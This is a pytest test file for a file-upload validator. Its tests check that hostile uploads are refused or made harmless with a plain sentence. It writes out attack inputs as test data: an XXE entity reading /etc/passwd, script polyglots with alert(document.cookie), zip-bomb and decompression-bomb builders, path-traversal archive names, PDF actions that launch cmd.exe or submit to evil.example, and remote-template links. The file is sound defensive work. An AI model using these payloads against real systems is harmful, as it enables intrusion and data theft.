"""Uploads that mean harm, or were cut off: each refused with a sentence that says what to do, or made harmless."""

import os
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from app.files import JPEG, PDF, PNG, Unacceptable, examine, make_ready
from tests.handed import CONTENT_TYPES, RELATIONS, office, paper, picture, ready

XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
WORD_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def refusal(content: bytes, name: str = "file", megabytes: int = 100) -> str:
    """The sentence with which a file is refused."""
    with pytest.raises(Unacceptable) as refused:
        ready(content, name, megabytes)
    return refused.value.sentence


def relations(kind: str, target: str) -> str:
    return RELATIONS.format(f'<Relationship Id="r1" Type="{WORD_TYPE}{kind}" Target="{target}" TargetMode="External"/>')


def bomb_png(width: int, height: int) -> bytes:
    """A PNG that says it is so large, of a few hundred bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 999)) + chunk(b"IEND", b"")
    )


def packed_with(info: ZipInfo, content: bytes) -> bytes:
    out = BytesIO(office())
    with ZipFile(out, "a", ZIP_DEFLATED) as archive:
        archive.writestr(info, content)
    return out.getvalue()


def with_action(action: dict[str, str]) -> bytes:
    """A PDF whose opening does something."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    made = DictionaryObject(
        {
            NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value)
            for key, value in action.items()
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(made)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def test_an_svg_with_a_script_is_refused() -> None:
    svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    assert refusal(svg, "map.svg").startswith("This is not a file that is taken here.")


def test_html_named_png_is_refused() -> None:
    assert refusal(b"<html><script>alert(1)</script></html>", "photo.png").startswith(
        "This is not a file that is taken"
    )


def test_a_polyglot_of_gif_and_script_comes_out_as_a_picture_alone() -> None:
    gif = picture(kind="GIF", mode="P", color=3)
    made = ready(gif + b"*/=1;alert(document.cookie)//", "both.gif")
    assert (made.file.kind, made.file.name) == (PNG, "both.png")
    assert b"alert" not in made.file.file.read() + open_bytes(made)


def open_bytes(made: object) -> bytes:
    file = made.file.file  # type: ignore[attr-defined]
    file.seek(0)
    content: bytes = file.read()
    return content


def test_a_polyglot_of_png_and_html_comes_out_without_its_tail() -> None:
    made = ready(picture() + b"<script>alert(1)</script>", "both.png")
    assert b"script" not in open_bytes(made)


def test_a_polyglot_of_pdf_and_html_that_begins_as_html_is_refused() -> None:
    assert refusal(b"<html><script>alert(1)</script>" + paper(), "a.pdf").startswith("This is not a file that is taken")


def test_a_polyglot_of_pdf_and_html_that_begins_as_a_pdf_is_a_pdf_and_called_so() -> None:
    """What it is served as stands in tests/routes/test_update_files.py: a PDF, whatever else is in it."""
    made = ready(paper() + b"\n<html><script>alert(1)</script>", "page.html")
    assert (made.file.kind, made.file.name) == (PDF, "page.pdf")


def test_a_zip_bomb_in_docx_is_refused() -> None:
    bomb = office("docx", {"word/media/a.bin": b"\0" * (80 << 20)})
    assert len(bomb) < 200_000
    assert "zip bomb" in refusal(bomb, "update.docx")


def test_a_zip_bomb_in_xlsx_that_lies_about_its_size_is_refused() -> None:
    bomb = bytearray(office("xlsx", {"xl/worksheets/sheet1.xml": b" " * (80 << 20)}))
    for place in (bomb.rfind(b"PK\x03\x04"), bomb.rfind(b"PK\x01\x02")):
        at = place + (22 if bomb[place + 2] == 3 else 24)
        struct.pack_into("<I", bomb, at, 12)
    assert "zip bomb" in refusal(bytes(bomb), "table.xlsx")


def test_a_bomb_packed_in_what_is_packed_is_counted_with_the_rest() -> None:
    inner = office("xlsx", {f"xl/media/{number}.bin": b"\0" * (30 << 20) for number in range(3)})
    assert "zip bomb" in refusal(office("docx", {"word/embeddings/a.xlsx": inner}))


def test_packed_in_packed_in_packed_in_packed_is_refused() -> None:
    content = office()
    for _ in range(3):
        content = office("docx", {"word/embeddings/a.docx": content})
    assert "zip bomb" in refusal(content)


def test_a_table_in_a_document_is_taken() -> None:
    assert ready(office("docx", {"word/embeddings/a.xlsx": office("xlsx")}), "a.docx").file.name == "a.docx"


@pytest.mark.parametrize(
    "content",
    [
        office("docx", {"word/vbaProject.bin": b"macro"}),
        office("xlsx", {"xl/vbaProject.bin": b"macro"}),
        office("docx", {"word/activeX/activeX1.xml": "<x/>"}),
        office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
        office("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"macro"})}),
    ],
    ids=["docm", "xlsm renamed xlsx", "activex", "macro sheet", "within an embedded table"],
)
def test_macros_are_refused_under_any_name(content: bytes) -> None:
    assert refusal(content, "harmless.xlsx").startswith("This file holds macros, which are programs.")


def test_a_macro_type_without_its_macros_is_refused() -> None:
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.replace("/>", ">ms-word.document.macroEnabled</Types>"))
        archive.writestr("word/document.xml", "<x/>")
    assert refusal(out.getvalue()).startswith("This file holds macros")


def test_a_picture_of_ten_thousand_pixels_square_is_refused_with_what_to_do() -> None:
    assert refusal(picture(10_000, 10_000, mode="L", color=9)) == (
        "This picture is 10,000 × 10,000 pixels, which is more than can be opened here. Make it smaller, for example "
        "4,000 pixels wide, and try again."
    )


def test_a_picture_ten_thousand_pixels_wide_is_made_smaller() -> None:
    made = ready(picture(10_000, 1_000, "JPEG"), "panorama.jpg")
    assert (made.width, made.height) == (2600, 260)


def test_a_decompression_bomb_png_is_refused_before_it_is_unpacked() -> None:
    bomb = bomb_png(50_000, 50_000)
    assert len(bomb) < 200
    assert "than can be opened here" in refusal(bomb)


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.png"),
        ("C:\\Users\\me\\x.png", "x.png"),
        ("a\x00.png.exe", "a .png.png"),
        ("photo\u202egnp.exe", "photo gnp.png"),
        ("n" * 300 + ".png", "n" * 196 + ".png"),
        ('a"b<c>.png', "a-b-c-.png"),
        (".htaccess", "picture.png"),
    ],
    ids=["dots", "drive", "null byte", "right to left override", "300 characters", "quotes", "hidden"],
)
def test_a_name_that_wants_to_be_a_path_is_a_name(name: str, kept: str) -> None:
    assert ready(picture(), name).file.name == kept


def test_zero_bytes_are_refused() -> None:
    assert refusal(b"") == "This file is empty. Choose it again."


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("share", [0.1, 0.5, 0.9])
def test_a_picture_that_was_cut_off_is_refused(kind: str, share: float) -> None:
    whole = noise(kind)
    assert refusal(whole[: int(len(whole) * share)]) == (
        "This picture is damaged or was cut off on its way. Open it, save it anew, and try again."
    )


def noise(kind: str) -> bytes:
    """A picture that does not compress, so that a part of it is not all of it."""
    out = BytesIO()
    Image.frombytes("RGB", (90, 90), os.urandom(90 * 90 * 3)).save(out, kind)
    return out.getvalue()


@pytest.mark.parametrize("share", [0.3, 0.7, 0.98])
def test_a_document_that_was_cut_off_is_refused(share: float) -> None:
    whole = office("docx", {"word/media/a.bin": os.urandom(50_000)})
    with pytest.raises(Unacceptable):
        ready(whole[: int(len(whole) * share)])


def test_a_program_named_pdf_is_refused() -> None:
    assert refusal(b"MZ\x90\x00" + b"\0" * 500, "minutes.pdf").startswith("This is not a file that is taken here.")


def test_a_program_in_a_document_is_refused() -> None:
    assert "holds a program" in refusal(office("docx", {"word/embeddings/setup.bin": b"MZ\x90\x00"}))
    native = b"\xd0\xcf\x11\xe0" + b"\0" * 600 + "Ole10Native".encode("utf-16-le")
    assert "can be started" in refusal(office("docx", {"word/embeddings/oleObject1.bin": native}))


def test_a_pdf_behind_a_password_is_refused() -> None:
    assert refusal(paper(password="secret")).startswith("This PDF is locked with a password.")


def test_a_pdf_with_javascript_is_refused() -> None:
    assert refusal(paper(javascript="app.alert(1)")).startswith("This PDF holds programs")


@pytest.mark.parametrize(
    ("action", "said"),
    [
        ({"/S": "/JavaScript", "/JS": "app.alert(1)"}, "This PDF holds programs"),
        ({"/S": "/Launch", "/F": "cmd.exe"}, "This PDF starts something else"),
        ({"/S": "/SubmitForm", "/F": "http://evil.example"}, "This PDF starts something else"),
    ],
    ids=["javascript", "launch", "submit"],
)
def test_a_pdf_that_does_something_when_it_is_opened_is_refused(action: dict[str, str], said: str) -> None:
    assert refusal(with_action(action)).startswith(said)


def test_a_pdf_with_files_inside_is_refused() -> None:
    assert refusal(paper(carried=b"MZ")).startswith("This PDF carries other files inside.")


@pytest.mark.parametrize("content", [b"%PDF-1.7\n%%EOF\n", paper()[:200], b"%PDF-" + b"\xff" * 5000])
def test_a_pdf_that_was_cut_off_is_refused(content: bytes) -> None:
    assert refusal(content).startswith("This PDF")


def test_a_picture_keeps_no_place_on_the_map_and_stands_upright() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by a quarter
    exif[0x010F] = "CameraMaker"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (37.0, 48.0, 12.0)
    photo = picture(64, 32, "JPEG", exif=exif.tobytes(), comment=b"secret place")
    assert b"CameraMaker" in photo
    made = ready(photo, "IMG_2041.JPG")
    kept = open_bytes(made)
    with Image.open(BytesIO(kept)) as again:
        assert (again.size, dict(again.getexif()), again.info.get("comment")) == ((32, 64), {}, None)
    assert b"CameraMaker" not in kept
    assert (made.file.kind, made.width, made.height) == (JPEG, 32, 64)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_in_a_document_are_refused(encoding: str) -> None:
    """XXE, in either of the encodings that every reader of XML knows."""
    assert "(entities)" in refusal(office("docx", {"word/styles.xml": XXE.encode(encoding)}))


def test_a_link_to_another_place_on_the_disk_is_refused() -> None:
    link = ZipInfo("word/media/image1.png")
    link.external_attr = 0o120777 << 16
    assert "a link to another place" in refusal(packed_with(link, b"/etc/passwd"))


@pytest.mark.parametrize("name", ["../../../evil.sh", "/etc/cron.d/evil", "word/../../evil", "C:/evil.exe"])
def test_names_that_lead_out_of_a_packed_file_are_refused(name: str) -> None:
    assert "names that lead out of it" in refusal(packed_with(ZipInfo(name), b"x"))


@pytest.mark.parametrize("target", ["http://evil.example/t.dotm", "\\\\host\\share\\t.dotm", "file://host/t.dotm"])
def test_a_document_that_fetches_a_template_is_refused(target: str) -> None:
    content = office("docx", {"word/_rels/settings.xml.rels": relations("attachedTemplate", target)})
    assert "fetches something from elsewhere when it is opened (a template)" in refusal(content)


@pytest.mark.parametrize(
    ("kind", "target"),
    [("hyperlink", "https://lab.example"), ("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm")],
)
def test_links_to_click_and_a_template_of_ones_own_are_taken(kind: str, target: str) -> None:
    assert ready(office("docx", {"word/_rels/document.xml.rels": relations(kind, target)}), "a.docx").file.size > 0


def test_a_packed_file_behind_a_password_is_refused() -> None:
    locked = bytearray(office("docx", {"word/a.bin": b"x"}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = locked.rfind(mark)
        locked[place + at] |= 1
    assert refusal(bytes(locked)).startswith("This file is locked with a password.")


def test_a_picture_of_an_iphone_is_refused_kindly() -> None:
    heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100
    assert refusal(heic, "IMG.HEIC").startswith(
        "This is a HEIC picture, as iPhones make them. Save or export it as JPEG"
    )


def test_more_than_is_taken_is_refused_and_says_how_much_is() -> None:
    assert refusal(b"%PDF-" + b"0" * (1 << 20), megabytes=1).startswith("This file is larger than 1 MB.")


def test_a_paper_has_its_first_page_as_a_picture_and_its_number_of_pages() -> None:
    made = ready(paper(3), "report.pdf")
    assert (made.pages, made.width, made.height) == (3, 1000, 1295)
    assert made.preview is not None
    with Image.open(made.preview.file) as page:
        assert (page.format, page.size) == ("WEBP", (1000, 1295))


def test_a_transparent_picture_and_one_in_printers_colours_are_shown_as_they_look() -> None:
    clear = ready(picture(mode="RGBA", color=(1, 2, 3, 0)))
    with Image.open(BytesIO(open_bytes(clear))) as again:
        assert again.getpixel((0, 0)) == (1, 2, 3, 0)
    inks = ready(picture(kind="JPEG", mode="CMYK", color=(0, 0, 0, 0)))
    with Image.open(BytesIO(open_bytes(inks))) as again:
        assert (again.mode, again.getpixel((0, 0))) == ("RGB", (255, 255, 255))


def test_a_paper_that_may_only_not_be_printed_is_taken() -> None:
    """Many public PDFs forbid something under a password, and open without one."""
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt("", owner_password="owner")
    out = BytesIO()
    writer.write(out)
    assert ready(out.getvalue()).pages == 1


def test_what_is_examined_twice_is_the_same() -> None:
    once = examine(BytesIO(picture()), "a.png", megabytes=1)
    assert make_ready(once).file.digest == make_ready(once).file.digest


def test_stored_members_are_read_as_they_are() -> None:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("ppt/presentation.xml", "<x/>")
        archive.writestr("ppt/media/film.mp4", os.urandom(3 << 20))
    assert ready(out.getvalue(), "talk.pptx").file.name == "talk.pptx"
